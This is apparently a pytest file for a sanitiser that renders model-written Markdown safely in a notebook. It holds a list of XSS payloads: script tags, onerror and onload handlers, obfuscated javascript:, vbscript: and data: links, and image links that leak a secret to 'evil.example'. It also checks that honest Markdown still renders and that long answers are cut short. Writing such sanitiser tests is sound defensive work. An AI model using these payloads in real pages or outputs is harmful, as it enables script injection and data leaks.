"""What a model writes is read as Markdown and does nothing else."""

import re

import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from ci_magic.markdown import MOST_SHOWN, shown

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "text <iframe src='//evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "![pixel](https://evil.example/leak?secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/leak",
    "[click](javascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript&colon;alert(1))",
    "[click](java\\script:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click](vbscript:x) and [data](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "`code` <b onclick=alert(1)>bold</b> `more`",
    "` <img src=x onerror=alert(1)>",
    "``` <img src=x onerror=alert(1)>",
    "<!-- --><svg onload=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_answer_is_an_element_an_image_or_a_link_that_runs(attack):
    page = markdown2html_mistune(shown(attack))
    tags = set(re.findall(r"<([a-z0-9]+)", page))
    assert tags <= {"p", "a", "code", "pre", "em", "strong", "ul", "li", "span"}
    assert not re.search(r"<[^>]*\son\w+=", page)
    for target in re.findall(r'href="([^"]*)"', page):
        assert not re.match(r"\s*(javascript|vbscript|data):", target.replace("&#58;", ":"), re.IGNORECASE)


@pytest.mark.parametrize(
    ("answer", "element"),
    [
        ("**bold** and `a < b`", "<strong>bold</strong>"),
        ("see [the docs](https://pandas.pydata.org/docs/)", 'href="https://pandas.pydata.org/docs/"'),
        ("[file](data/sales.csv) and [here](#part)", 'href="data/sales.csv"'),
        ("1 < 2 and 5 > 3", "1 &lt; 2"),
        ("```python\nx = [1](2)\n![a](b)\n```", "![a](b)"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
    ],
)
def test_honest_markdown_is_read(answer, element):
    page = markdown2html_mistune(shown(answer))
    assert element in re.sub(r"</?span[^>]*>", "", page)


def test_of_a_very_long_answer_the_beginning_is_shown_and_that_is_said():
    text = shown("word " * 1_000_000)
    assert len(text) < MOST_SHOWN + 200
    assert text.rstrip().endswith("%ci --log has it]")
